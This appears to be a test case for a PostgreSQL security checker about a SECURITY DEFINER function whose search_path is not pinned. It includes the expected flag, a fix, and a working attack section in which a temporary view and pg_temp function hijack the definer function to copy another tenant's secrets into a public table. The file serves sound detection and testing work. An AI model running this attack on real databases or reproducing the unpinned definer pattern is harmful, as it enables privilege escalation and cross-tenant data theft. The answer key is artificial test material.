-- title: a SECURITY DEFINER function without a pinned search_path finds the attacker's temporary view
-- class: functions
-- severity: critical
-- kind: static
-- leaks: attack /CANARY_B/
-- answer: flagged: `definer_search_path app.feature_on`

--@ setup
create table app.feature (name text, on_ bool);
create function app.feature_on(n text) returns bool language plpgsql security definer as $$
declare
  r bool;
begin
  select on_ into r from feature where name = n;
  return r;
end $$;
--@ fix
alter function app.feature_on(text) set search_path = pg_catalog, app, pg_temp;
--@ attack
:enter_a
create temp table loot (s text);
grant all on loot to public;
create function pg_temp.steal() returns bool language plpgsql as $$
begin
  insert into pg_temp.loot select secret from app.doc where tenant_id = 'B';
  return true;
end $$;
create temp view feature as select 'x'::text as name, pg_temp.steal() as on_;
grant select on feature to public;
select app.feature_on('x');
select * from loot;
commit;
